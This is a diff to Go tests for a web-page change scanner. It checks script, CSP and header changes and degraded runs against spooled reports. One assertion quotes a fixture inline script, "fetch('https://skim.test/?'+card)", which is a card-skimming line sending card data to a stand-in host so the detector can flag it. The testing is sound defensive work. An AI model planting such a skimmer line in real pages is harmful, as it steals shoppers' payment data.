@@ -1,6 +1,8 @@
 package history
 
 import (
+	"bytes"
+	"reflect"
 	"slices"
 	"strings"
 	"testing"
@@ -8,6 +10,66 @@ import (
 
 	"github.com/padlock-scan/padlock/report"
 )
+
+// spooledCopy is r written as JSON and read back spooled (report.Open, with its resources), as
+// the watch's reports are: a crawl's spool, or a stored baseline.
+func spooledCopy(t *testing.T, r *report.Report) *report.Report {
+	t.Helper()
+	if r == nil {
+		return nil
+	}
+	w, err := report.New("json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := w.Write(&buf, r); err != nil {
+		t.Fatal(err)
+	}
+	sp, err := report.Open(&buf, true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(sp.Pages) != 0 {
+		t.Fatal("report.Open kept the pages in memory")
+	}
+	t.Cleanup(func() { sp.Close() })
+	return sp
+}
+
+// compare is Compare of base and cur, which must be the same when both are spooled.
+func compare(t *testing.T, base, cur *report.Report) []Change {
+	t.Helper()
+	got, err := Compare(base, cur)
+	if err != nil {
+		t.Fatal(err)
+	}
+	spooled, err := Compare(spooledCopy(t, base), spooledCopy(t, cur))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(got, spooled) {
+		t.Fatalf("Compare of the spooled reports differs:\n in memory %+v\n   spooled %+v", got, spooled)
+	}
+	return got
+}
+
+// degraded is Degraded of base and cur, which must be the same when both are spooled.
+func degraded(t *testing.T, base, cur *report.Report) []string {
+	t.Helper()
+	got, err := Degraded(base, cur)
+	if err != nil {
+		t.Fatal(err)
+	}
+	spooled, err := Degraded(spooledCopy(t, base), spooledCopy(t, cur))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !slices.Equal(got, spooled) {
+		t.Fatalf("Degraded of the spooled reports differs:\n in memory %q\n   spooled %q", got, spooled)
+	}
+	return got
+}
 
 func kinds(cs []Change) []string {
 	var out []string
@@ -20,7 +82,7 @@ func kinds(cs []Change) []string {
 func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
 	t.Parallel()
 	base := shop(t0)
-	if cs := Compare(base, shop(t0.Add(time.Hour))); len(cs) != 0 {
+	if cs := compare(t, base, shop(t0.Add(time.Hour))); len(cs) != 0 {
 		t.Fatalf("the same site compares with changes: %v", kinds(cs))
 	}
 	cur := shop(t0.Add(time.Hour))
@@ -34,7 +96,7 @@ func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
 	pay.SecurityHeaders["Content-Security-Policy"] = pay.CSP[0]
 	pay.SecurityHeaders["Strict-Transport-Security"] = "max-age=60"
 	delete(pay.SecurityHeaders, "X-Frame-Options")
-	got := kinds(Compare(base, cur))
+	got := kinds(compare(t, base, cur))
 	want := []string{
 		"script-added inline sha256:" + hash("ee"),
 		"script-changed https://js.pay.test/v3.js",
@@ -47,7 +109,7 @@ func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
 	if !slices.Equal(got, want) {
 		t.Errorf("changes:\n got %q\nwant %q", got, want)
 	}
-	cs := Compare(base, cur)
+	cs := compare(t, base, cur)
 	for _, c := range cs {
 		if c.Kind == ScriptAdded && c.Detail != `inline script, line 7 of `+pay.URL+`: "fetch('https://skim.test/?'+card)"` {
 			t.Errorf("added inline script detail %q", c.Detail)
@@ -66,7 +128,7 @@ func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
 	cur2 := shop(t0.Add(time.Hour))
 	cur2.Pages[1].CSP = nil
 	delete(cur2.Pages[1].SecurityHeaders, "Content-Security-Policy")
-	if got := kinds(Compare(base, cur2)); !slices.Equal(got, []string{"csp-removed Content-Security-Policy"}) {
+	if got := kinds(compare(t, base, cur2)); !slices.Equal(got, []string{"csp-removed Content-Security-Policy"}) {
 		t.Errorf("CSP removed: %q", got)
 	}
 }
@@ -91,10 +153,10 @@ func TestCSPWeaker(t *testing.T) {
 func TestDegraded(t *testing.T) {
 	t.Parallel()
 	base := shop(t0)
-	if why := Degraded(base, shop(t0)); len(why) != 0 {
+	if why := degraded(t, base, shop(t0)); len(why) != 0 {
 		t.Fatalf("a healthy run is degraded: %v", why)
 	}
-	if why := Degraded(nil, shop(t0)); len(why) != 0 {
+	if why := degraded(t, nil, shop(t0)); len(why) != 0 {
 		t.Fatalf("a healthy first run is degraded: %v", why)
 	}
 	for name, mutate := range map[string]func(r *report.Report){
@@ -114,9 +176,26 @@ func TestDegraded(t *testing.T) {
 	} {
 		cur := shop(t0)
 		mutate(cur)
-		if why := Degraded(base, cur); len(why) == 0 {
+		if why := degraded(t, base, cur); len(why) == 0 {
 			t.Errorf("%s: not degraded", name)
 		}
+	}
+}
+
+// TestDegradedSaysWhyAScriptWasNotRead: a script of a payment page that got no answer is named
+// with the error of padlock's request, from the page's resources (read back from the spool).
+func TestDegradedSaysWhyAScriptWasNotRead(t *testing.T) {
+	t.Parallel()
+	cur := shop(t0)
+	cur.Scripts[0].SHA256, cur.Scripts[0].Status = "", 0
+	cur.Pages[1].Resources = []report.Resource{
+		{URL: "https://cdn.shop.test/a.css", Element: "link", Attribute: "href", Kind: "stylesheet", Line: 3, Error: "timeout"},
+		{URL: "https://js.pay.test/v3.js", Element: "script", Attribute: "src", Kind: "script", Line: 9, Error: "dial tcp: connection refused"},
+	}
+	why := degraded(t, shop(t0), cur)
+	want := []string{"script https://js.pay.test/v3.js of payment page https://shop.test/checkout could not be read: dial tcp: connection refused"}
+	if !slices.Equal(why, want) {
+		t.Errorf("reasons:\n got %q\nwant %q", why, want)
 	}
 }
 
